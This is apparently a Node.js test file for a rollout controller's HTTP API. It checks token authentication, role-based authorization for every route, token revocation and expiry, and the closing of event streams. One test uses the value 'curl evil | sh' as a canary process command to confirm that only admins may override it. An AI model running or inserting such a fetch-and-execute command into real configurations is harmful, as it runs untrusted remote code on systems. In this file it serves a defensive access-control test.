/**
 * Who may call which route of the controller API, over HTTP on a controller in process:
 * every route of the table against no token, a wrong, revoked or expired one (401) and each
 * role (403 below the route's, with the role needed), tokens never taken from the URL, and
 * the admin's token routes. (The CLI's side, and tokens across a restart: test/cli/token.test.ts.)
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { apiRoutes, createApiServer } from '../../src/server/api.js';
import { Controller, COMMANDS } from '../../src/server/controller.js';
import { EVENT_STREAM_DEFAULTS, EventStream } from '../../src/server/events.js';
import { dispatcher, route } from '../../src/server/routes.js';
import { SignInCodes } from '../../src/server/sessions.js';
import { ROLES, Tokens, type Role } from '../../src/server/tokens.js';
import { request, type Reply } from '../helpers/http.js';
import { servedConformance, type Exchange } from '../helpers/openapi-conformance.js';
import { SseReader } from '../helpers/sse.js';

const LOCAL = 'auth-test-local-admin-token';
const DAY = 86_400_000;

/** The role each route needs, written out: a route added to the table without a line here fails the first test. */
const EXPECTED: Record<string, Role | 'public'> = {
  'GET /healthz': 'public',
  'GET /metrics': 'public',
  'GET /api/v1/rollouts': 'viewer',
  'GET /api/v1/rollouts/:name': 'viewer',
  'GET /api/v1/rollouts/:name/history': 'viewer',
  'GET /api/v1/rollouts/:name/events': 'viewer',
  'GET /api/v1/rollouts/:name/series': 'viewer',
  'GET /api/v1/rollouts/:name/analyses/:id': 'viewer',
  'GET /api/v1/events': 'viewer',
  'GET /api/v1/whoami': 'viewer',
  'POST /api/v1/rollouts/:name/deploy': 'operator',
  'POST /api/v1/rollouts/:name/weight': 'operator',
  'DELETE /api/v1/rollouts/:name': 'admin',
  'GET /api/openapi.json': 'public',
  ...Object.fromEntries(COMMANDS.map((c) => [`POST /api/v1/rollouts/:name/${c}`, 'operator'])),
  'POST /api/v1/apply': 'admin',
  'POST /api/v1/shutdown': 'admin',
  'GET /api/v1/tokens': 'admin',
  'POST /api/v1/tokens': 'admin',
  'POST /api/v1/tokens/:ref/revoke': 'admin',
  'GET /auth/config': 'public',
  'POST /auth/sign-in': 'public',
  'GET /auth/session': 'viewer',
  'POST /auth/sign-out': 'viewer',
  'GET /auth/oidc/start': 'public',
  'GET /auth/oidc/callback': 'public',
  'GET /sign-in': 'public',
};

/** Routes about the browser's own session: a bearer token has none (their cookie side is in sessions.test.ts). */
const SESSION_ONLY = new Set(['GET /auth/session', 'POST /auth/sign-out']);

/** What a public route answers a request with no body, no query and no cookie (here, with no single sign-on). */
const PUBLIC_STATUS: Record<string, number> = {
  'POST /auth/sign-in': 400,
  'GET /auth/oidc/start': 404,
  'GET /auth/oidc/callback': 303,
  'GET /sign-in': 303,
};

const dir = mkdtempSync(join(tmpdir(), 'kanari-auth-'));
let controller: Controller;
let server: http.Server;
let port: number;
const shutdowns: string[] = [];
const token: Record<Role | 'revoked' | 'expired', string> = {} as never;
let conforms: (e: Exchange) => void;

before(async () => {
  controller = new Controller(dir);
  server = createApiServer(controller, LOCAL, (_all, actor) => shutdowns.push(actor), {
    log: () => {},
  }) as http.Server;
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  conforms = await servedConformance(port);
  const tokens = new Tokens(controller.store.tokens);
  for (const role of ROLES) token[role] = (await tokens.create({ name: `${role}-bot`, role })).token;
  token.revoked = (await tokens.create({ name: 'gone', role: 'admin' })).token;
  await tokens.revoke('gone');
  // Made two days ago, for a day.
  token.expired = (
    await new Tokens(controller.store.tokens, () => Date.now() - 2 * DAY).create({
      name: 'old',
      role: 'admin',
      lifetimeMs: DAY,
    })
  ).token;
});
after(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  await controller.close();
  rmSync(dir, { recursive: true, force: true });
});

/**
 * The status and headers of a request (a stream is closed once its head is in), and its
 * body when it ends; each exchange checked against the OpenAPI document.
 */
async function call(method: string, path: string, headers: Record<string, string> = {}, body?: string): Promise<Reply> {
  const reply = await send(method, path, headers, body);
  conforms({ method, path, body, reply });
  return reply;
}

function send(method: string, path: string, headers: Record<string, string>, body?: string): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const sent = body === undefined ? headers : { 'content-type': 'application/json', ...headers };
    const req = http.request({ host: '127.0.0.1', port, method, path, headers: sent, agent: false }, (res) => {
      if (String(res.headers['content-type']).startsWith('text/event-stream')) {
        resolve({ status: res.statusCode!, headers: res.headers, body: '' });
        res.destroy();
        return;
      }
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

const as = (t: string) => ({ authorization: `Bearer ${t}` });
const concrete = (path: string) => path.replace(':name', 'ghost').replace(':id', 'x').replace(':ref', 'nobody');

describe('who may call which route', () => {
  const table = () => {
    const events = new EventStream(controller.store, EVENT_STREAM_DEFAULTS);
    try {
      return apiRoutes(controller, events, new Tokens(controller.store.tokens), () => {}, {
        codes: new SignInCodes(),
      } as never);
    } finally {
      events.close();
    }
  };

  it('has the role docs/api.md gives on every route of the table', () => {
    const declared = Object.fromEntries(table().map((r) => [`${r.method} ${r.path}`, r.public ? 'public' : r.role]));
    assert.deepEqual(declared, EXPECTED);
  });

  it('refuses to build a table with a route that declares no role', () => {
    const handle = () => ({ status: 200, json: {} });
    const options = { authenticate: () => assert.fail('not called'), maxBodyBytes: 10, log: () => {} };
    assert.throws(
      () => dispatcher([route({ method: 'GET', path: '/open', handle })], options),
      /route GET \/open must declare either a role \(viewer, operator, admin\) or public: true/,
    );
    assert.throws(() =>
      dispatcher([route({ method: 'GET', path: '/both', public: true, role: 'admin', handle })], options),
    );
  });

  it('answers 401 without a good token, 403 with the role needed below it, and lets the rest through', async () => {
    for (const r of table()) {
      const path = concrete(r.path);
      const what = `${r.method} ${r.path}`;
      const body = r.method === 'POST' ? '{}' : undefined;
      if (r.public) {
        assert.equal((await call(r.method, path)).status, PUBLIC_STATUS[what] ?? 200, what);
        continue;
      }
      for (const bad of [{}, as('wrong-but-long-enough'), as(token.revoked), as(token.expired)]) {
        const res = await call(r.method, path, bad, body);
        assert.equal(res.status, 401, `${what} ${JSON.stringify(bad).slice(0, 40)}: ${res.body}`);
        assert.equal(res.headers['www-authenticate'], 'Bearer');
      }
      for (const role of SESSION_ONLY.has(what) ? [] : ROLES) {
        const res = await call(r.method, path, as(token[role]), body);
        if (ROLES.indexOf(role) < ROLES.indexOf(r.role!)) {
          assert.equal(res.status, 403, `${what} as ${role}: ${res.body}`);
          assert.equal(res.headers['content-type'], 'application/problem+json');
          assert.equal(res.headers['www-authenticate'], 'Bearer error="insufficient_scope"');
          const p = JSON.parse(res.body) as { detail: string; role: string };
          assert.equal(p.role, r.role);
          assert.equal(p.detail, `this needs the ${r.role} role; the token ${role}-bot has ${role}`);
        } else assert.ok(![401, 403].includes(res.status), `${what} as ${role}: ${res.status} ${res.body}`);
      }
    }
    assert.deepEqual(shutdowns, ['admin-bot'], 'the admin stopped it, and is named');
  });

  it('says why a revoked or expired token is refused, to whoever holds it', async () => {
    assert.match(
      JSON.parse((await call('GET', '/api/v1/rollouts', as(token.revoked))).body).detail,
      /token gone \(\w+\) was revoked/,
    );
    assert.match(
      JSON.parse((await call('GET', '/api/v1/rollouts', as(token.expired))).body).detail,
      /token old \(\w+\) expired at/,
    );
  });

  it('never takes a token from the URL, the event stream included', async () => {
    for (const path of [
      `/api/v1/rollouts?access_token=${token.admin}`,
      `/api/v1/rollouts?token=${token.admin}`,
      `/api/v1/events?access_token=${token.admin}`,
      `/api/v1/events?after=0&authorization=Bearer%20${token.admin}`,
    ])
      // Not through the document's check: it would refuse the query parameter first.
      assert.equal((await send('GET', path, {})).status, 401, path);
  });

  it('lets only an admin deploy with set, which can change the command the canary runs', async () => {
    const body = JSON.stringify({ version: 'v2', set: { 'canary.process.command': 'curl evil | sh' } });
    const refused = await call('POST', '/api/v1/rollouts/ghost/deploy', as(token.operator), body);
    assert.equal(refused.status, 403);
    assert.equal(
      JSON.parse(refused.body).detail,
      'a deploy with set needs the admin role; the token operator-bot has operator',
    );
    assert.equal((await call('POST', '/api/v1/rollouts/ghost/deploy', as(token.admin), body)).status, 404);
    assert.equal(
      (await call('POST', '/api/v1/rollouts/ghost/deploy', as(token.operator), '{"version":"v2"}')).status,
      404,
    );
  });

  it('tells a token who it is, and lets an admin make, list and revoke tokens', async () => {
    assert.deepEqual(JSON.parse((await call('GET', '/api/v1/whoami', as(token.viewer))).body).role, 'viewer');
    const made = await call(
      'POST',
      '/api/v1/tokens',
      as(LOCAL),
      JSON.stringify({ name: 'ci', role: 'operator', expires: '30d' }),
    );
    assert.equal(made.status, 201, made.body);
    const ci = JSON.parse(made.body) as {
      token: string;
      id: string;
      createdBy: string;
      expiresAt: number;
      createdAt: number;
    };
    assert.equal(ci.createdBy, 'local', 'made by the token kanari up keeps');
    assert.equal(ci.expiresAt - ci.createdAt, 30 * DAY);
    const who = JSON.parse((await call('GET', '/api/v1/whoami', as(ci.token))).body);
    assert.deepEqual(who, { name: 'ci', role: 'operator', tokenId: ci.id });
    const listed = await call('GET', '/api/v1/tokens', as(token.admin));
    assert.ok(!listed.body.includes(ci.token.slice(24)), 'no secret in the list');
    assert.ok(JSON.parse(listed.body).tokens.some((t: { name: string }) => t.name === 'ci'));
    const dup = await call('POST', '/api/v1/tokens', as(LOCAL), JSON.stringify({ name: 'ci', role: 'viewer' }));
    assert.equal(dup.status, 409);
    for (const bad of [
      { name: 'x', role: 'root' },
      { name: 'x', role: 'viewer', expires: '1y' },
      { name: 'x y', role: 'viewer' },
    ])
      assert.equal(
        (await call('POST', '/api/v1/tokens', as(LOCAL), JSON.stringify(bad))).status,
        400,
        JSON.stringify(bad),
      );
    const revoked = await call('POST', `/api/v1/tokens/${ci.id}/revoke`, as(token.admin));
    assert.equal(JSON.parse(revoked.body).revokedBy, 'admin-bot');
    assert.equal((await call('GET', '/api/v1/whoami', as(ci.token))).status, 401);
  });

  it('ends an event stream when its token is revoked or expires, as the next request would be refused', async () => {
    const made = await call('POST', '/api/v1/tokens', as(LOCAL), JSON.stringify({ name: 'tail', role: 'viewer' }));
    const tail = JSON.parse(made.body) as { token: string; id: string };
    // Expiring 4 s from now: long enough to be seen open first, even on a busy machine.
    const brief = await new Tokens(controller.store.tokens).create({ name: 'brief', role: 'viewer', lifetimeMs: 4000 });
    const url = `http://127.0.0.1:${port}/api/v1/events`;
    const revoked = new SseReader(url, as(tail.token));
    const expiring = new SseReader(url, as(brief.token));
    const other = new SseReader(url, as(token.viewer));
    let otherClosed = false;
    void other.closed.then(() => (otherClosed = true));
    try {
      for (const r of [revoked, expiring, other]) await r.until(() => r.status !== 0, 10_000, 'the stream opening');
      assert.equal(revoked.status, 200);
      assert.equal((await call('POST', `/api/v1/tokens/${tail.id}/revoke`, as(LOCAL))).status, 200);
      await revoked.closed;
      await expiring.closed;
      assert.equal(expiring.status, 200, 'it was open before it expired');
      assert.equal(otherClosed, false, "another token's stream goes on");
    } finally {
      for (const r of [revoked, expiring, other]) r.close();
    }
  });

  it('asks for the token before saying a route or a rollout exists, and then refuses by role before either', async () => {
    assert.equal((await request(port, { path: '/api/v1/nothing' })).status, 401);
    assert.equal((await call('GET', '/api/v1/nothing', as(token.viewer))).status, 404);
    assert.equal((await call('POST', '/api/v1/rollouts/ghost/promote', as(token.viewer), '{}')).status, 403);
  });
});
